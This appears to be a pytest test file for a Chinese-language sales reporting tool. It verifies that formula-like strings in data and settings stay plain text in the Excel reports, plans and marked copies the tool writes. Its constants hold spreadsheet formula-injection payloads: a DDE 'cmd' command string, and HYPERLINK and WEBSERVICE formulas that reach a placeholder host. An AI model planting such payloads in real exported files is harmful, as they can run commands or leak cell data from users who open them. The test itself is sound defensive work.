"""No formula comes from data: what people or platforms named like one stays text in every Excel that is written."""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from rpt.commands import run
from tests.office import needs_office, reopened
from tests.projects import daily, project

CANARY = "cmd|' /C calc'!A0"
CHANNEL, PLATFORM, PRODUCT = f"={CANARY}", "+2+3", '=HYPERLINK("http://a.invalid/?"&A1,"点我")'
OWNER, MEASURE, NOTE = "@SUM(1+1)", "-1+1", "{=1+1}"
COMPANY = '=WEBSERVICE("http://a.invalid")&Z&F'
SETTINGS = f"""
[report]
company = '''{COMPANY}'''
title = "=1+{{year}}"
department = "\\t=1+1"
[sources]
all = "*.xlsx"
[channels]
"{CHANNEL}" = ["{PLATFORM}"]
"短视频" = ["抖音"]
"""
PLANTED = ("C calc'!A0", "2+3", "a.invalid", "SUM(1+1)", "1+1")


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small project in which whatever can be named is named like a formula, with its report and its plan."""
    folder = tmp_path_factory.mktemp("shop")
    days = daily(date(2024, 1, 1), date(2025, 12, 31), **{PLATFORM: 1000, "抖音": 500})
    targets = [
        ["年份", "指标", "范围", "目标值", "负责人", "备注"],
        [2026, "成交总额", "", 900_000, OWNER, NOTE],
        [2026, "成交总额", f"渠道={CHANNEL}", 500_000, OWNER, NOTE],
    ]
    actions = [
        ["年份", "支撑指标", "范围", "举措", "责任人", "完成时限", "预期增量", "状态"],
        [2026, "成交总额", "", MEASURE, OWNER, "6月", 100_000, "未开始"],
    ]
    project(folder, None, SETTINGS)
    _book(folder / "data.xlsx", {"渠道日报": days, "年度目标": targets, "行动计划": actions})
    for command in (("annual", "2025"), ("plan", "2026")):
        assert run([*command, "-p", str(folder), "-f", "xlsx", "--allow-errors"]) == 0
    return folder


def _book(path: Path, sheets: dict[str, Any]) -> None:
    """A workbook whose texts are texts, whatever they look like."""
    made = openpyxl.Workbook()
    made.remove(made.active)
    for name, rows in sheets.items():
        sheet = made.create_sheet(name)
        for i, row in enumerate(rows, 1):
            for j, value in enumerate(row, 1):
                cell = sheet.cell(i, j)
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"
    made.save(path)


def formulas(path: Path) -> Iterator[tuple[str, str]]:
    """Everything in a workbook that is calculated, opened or shown by a formula: cells, names, rules, lists, charts."""
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            if name.endswith((".xml", ".rels")):
                text = parts.read(name).decode("utf-8")
                for tag in ("f", "definedName", "formula", "formula1", "formula2", "c:f", "ddeLink", "oleLink"):
                    yield from ((name, part.partition(">")[2]) for part in text.split(f"<{tag}")[1:])
                yield from ((name, part.split('"')[0]) for part in text.split('TargetMode="External"')[1:])
                if "externalLink" in name:
                    yield name, text


def check(path: Path) -> int:
    """No formula holds what was planted, no link leads out; returns how many texts that look like one stand there."""
    for name, text in formulas(path):
        body = text.split("</")[0]
        assert not any(planted in body for planted in PLANTED), (name, body)
    book = openpyxl.load_workbook(path)
    count = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type != "f":
                    count += cell.value.lstrip().startswith(("=", "+", "-1", "@", "{="))
                if cell.data_type == "f":
                    assert not any(planted in str(cell.value) for planted in PLANTED), cell.coordinate
                if cell.hyperlink is not None:
                    assert not cell.hyperlink.target, cell.hyperlink.target
        for header in (sheet.oddHeader, sheet.oddFooter):
            for part in (header.left, header.center, header.right):
                assert "&Z" not in (part.text or "").replace("&&", ""), part.text
    return count


def recalculated(path: Path, folder: Path) -> dict[tuple[str, str], Any]:
    """Every cell of a workbook as LibreOffice calculates it."""
    book = openpyxl.load_workbook(reopened(path, folder / "calc"), data_only=True)
    return {(s.title, c.coordinate): c.value for s in book.worksheets for row in s.iter_rows() for c in row}


def test_report_and_plan_hold_texts_that_look_like_formulas(shop: Path) -> None:
    for stem in ("annual-2025", "plan-2026"):
        made = shop / "out" / f"{stem}.xlsx"
        assert check(made) > 3, stem


@needs_office
def test_libreoffice_leaves_them_as_text(shop: Path, tmp_path: Path) -> None:
    path = shop / "out" / "annual-2025.xlsx"
    shown = recalculated(path, tmp_path)
    book = openpyxl.load_workbook(path)
    texts = [(s.title, c) for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)]
    planted = [(at, c) for at, c in texts if c.data_type != "f" and any(p in c.value for p in PLANTED)]
    assert len(planted) > 3
    assert all(shown[at, c.coordinate] == c.value for at, c in planted)


def test_marked_copies_hold_them_as_text(tmp_path: Path, rpt: Callable[..., Any]) -> None:
    """A csv's cells and an issue's words; a workbook keeps its own formulas."""
    shop = tmp_path
    with (shop / "渠道日报.csv").open("w", encoding="utf-8-sig", newline="") as stream:
        rows = [["日期", "平台", "支付金额"], ["2025-01-02", PLATFORM, f"={CANARY}"], [NOTE, PRODUCT, "\t=1+1"]]
        csv.writer(stream).writerows(rows)
    (shop / "rpt.toml").write_text(SETTINGS.replace("*.xlsx", "*.csv"), encoding="utf-8")
    said = rpt("check", "-p", shop, "--mark", "-o", shop / "marked")
    found = sorted((shop / "marked").rglob("*.xlsx"))
    assert found, said.out + said.err
    for path in found:
        assert check(path) > 2
        assert all(cell.data_type != "f" for s in openpyxl.load_workbook(path) for row in s.iter_rows() for cell in row)
